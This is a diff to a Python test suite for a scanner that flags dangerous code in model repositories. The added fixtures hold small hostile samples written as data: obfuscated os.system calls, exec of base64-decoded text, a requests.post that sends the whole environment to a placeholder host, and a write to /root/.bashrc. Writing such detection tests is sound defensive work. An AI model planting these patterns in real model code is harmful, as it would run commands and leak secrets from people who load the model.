@@ -173,6 +173,19 @@ DATA: list[Case] = [
     ("outside-path", {"a.bin": archive({"../x": b"x"}), "b.tar": tape({"/etc/x": b"x"})}, ["a.bin: error: the archive has '../x', outside the folder where it is unpacked", "b.tar: error: the archive has '/etc/x', outside the folder where it is unpacked"]),
 ]  # fmt: skip
 
+CODE: list[Case] = [
+    ("remote-code", {"modeling_a.py": "import os as o\nrun = o.system\nrun('id')\n"}, ["modeling_a.py: error: it calls os.system (line 2), calls os.system (line 3): do not run it"]),
+    ("remote-code", {"modeling_a.py": "getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n"}, ["modeling_a.py: error: it calls os.system (line 1): do not run it"]),
+    ("remote-code", {"handler.py": "from .tools import f\n", "tools.py": "from subprocess import run as f\nf('id')\n", "free.py": "from subprocess import run\nrun('make')\n"}, ["tools.py: error: it calls subprocess.run (line 2): do not run it"]),
+    ("remote-code", {"any/where.py": "import base64\nt = base64.b64decode('aQ==')\nexec(t)\n"}, ["any/where.py: error: it runs what base64.b64decode returns, by exec (line 3): do not run it"]),
+    ("remote-code", {"code/inference.py": "import requests, os\nrequests.post('http://x', json=dict(os.environ))\n"}, ["code/inference.py: error: it sends the environment (line 2): do not run it"]),
+    ("remote-code", {"d/config.json": {}, "d/processing_a.py": "import requests, subprocess\nrequests.get(u)\nsubprocess.run(['ffmpeg', '-i', p])\n"}, ["d/processing_a.py: info: it calls requests.get (line 2), calls subprocess.run for a usual tool (line 3)"]),
+    ("remote-code", {"modeling_a.py": "def f(:\n"}, ["modeling_a.py: warning: loaders run it, and Python cannot parse it: invalid syntax"]),
+    ("remote-code", {"modeling_a.py": "import os\nclass A:\n    def eval(self):\n        return os.path.join('a', 'b')\nA().eval()\nopen('vocab.txt', 'w')\n"}, []),
+    ("remote-code", {"modeling_a.py": "open('/root/.bashrc', 'a').write('x')\n"}, ["modeling_a.py: error: it calls open on '/root/.bashrc' (line 1): do not run it"]),
+    ("remote-code", {"modeling_a.py": "a = b\nb = a\na = b[b][a]\nprint(a)\n"}, []),
+]  # fmt: skip
+
 REMOTE: list[Case] = [
     ("remote-code", {"config.json": {"auto_map": {"AutoModel": "m.Mine"}}, "m.py": ""}, ["config.json: warning: auto_map names m.Mine, code in m.py"]),
     ("remote-code", {"d/config.json": {"auto_map": {"AutoModel": ["m.Mine", None]}}}, ["d/config.json: info: auto_map names m.Mine, code not here"]),
@@ -196,7 +209,7 @@ REMOTE: list[Case] = [
 ]  # fmt: skip
 
 
-@every(("code", "files", "expected"), [*WHOLE, *DATA, *REMOTE])
+@every(("code", "files", "expected"), [*WHOLE, *DATA, *CODE, *REMOTE])
 def test_files(code: str, files: dict[str, Any], expected: list[str], tmp_path: Path) -> None:
     assert said(code, files, tmp_path) == expected
 
